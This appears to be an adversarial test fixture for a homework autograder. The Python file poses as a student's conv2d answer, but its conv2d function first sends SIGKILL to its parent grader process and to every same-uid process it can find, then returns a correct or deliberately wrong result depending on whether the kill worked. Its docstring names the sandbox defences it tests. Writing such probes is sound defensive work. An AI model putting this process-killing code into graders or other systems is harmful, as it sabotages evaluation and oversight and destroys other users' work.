"""Attack: kill the grader (its parent), so that the batch dies or reports nothing.

Sends SIGKILL to its parent process and to every process it can see that is not its own; then
answers correctly (if the grader died, the test notices the batch never finished; if a
grader trusted what a dead child left, it would score it).

Bounded: it signals only its parent and the processes in its own /proc view that run as its
own uid, never ``kill(-1)`` (as root, without a sandbox, that would hit the whole machine).

Defence tested: another PID namespace (the parent is outside: ``getppid()`` is 0), another uid
(the grader runs as root), and fail-closed scoring. Expected: the batch finishes, the honest
students keep their marks, and this one scores only what it computes.
"""

# ---- a correct answer, returned only when the attack worked (HW2 contract, question 1.1c)
import numpy as _np

_A = _np.array([[4, 5, 2, 2, 1], [3, 3, 2, 2, 4], [4, 3, 4, 1, 1], [5, 1, 4, 1, 2], [5, 1, 3, 1, 4]], float)
_B = _np.array([[4, 3, 3], [5, 5, 5], [2, 4, 3]], float)


def _correct_conv2d(image, kernel, stride=1, padding=0):
    x = _np.pad(_np.asarray(image, float), padding)
    k = _np.asarray(kernel, float)
    rows = (x.shape[0] - k.shape[0]) // stride + 1
    cols = (x.shape[1] - k.shape[1]) // stride + 1
    out = _np.empty((rows, cols))
    for i in range(rows):
        for j in range(cols):
            window = x[i * stride : i * stride + k.shape[0], j * stride : j * stride + k.shape[1]]
            out[i, j] = (window * k).sum()
    return out


def _wrong(image, kernel, stride=1, padding=0):
    """What an attack that failed returns: the right shape, every value off by 1000."""
    return _correct_conv2d(image, kernel, stride, padding) + 1000.0


# ---- the attack
import os
import signal


def _kill_parent():
    killed = 0
    parent = os.getppid()
    if parent > 1:
        try:
            os.kill(parent, signal.SIGKILL)
            killed += 1
        except OSError:
            pass
    if os.getuid() == 0:
        return killed  # never sweep as root: without a sandbox that is the whole machine
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(), 1, parent):
            try:
                if os.stat(f"/proc/{pid}").st_uid == os.getuid():
                    os.kill(int(pid), signal.SIGKILL)
                    killed += 1
            except OSError:
                pass
    return killed


def conv2d(image, kernel, stride=1, padding=0):
    won = _kill_parent() > 0
    return (_correct_conv2d if won else _wrong)(image, kernel, stride, padding)


CONV_OUTPUT = _np.zeros((3, 3))
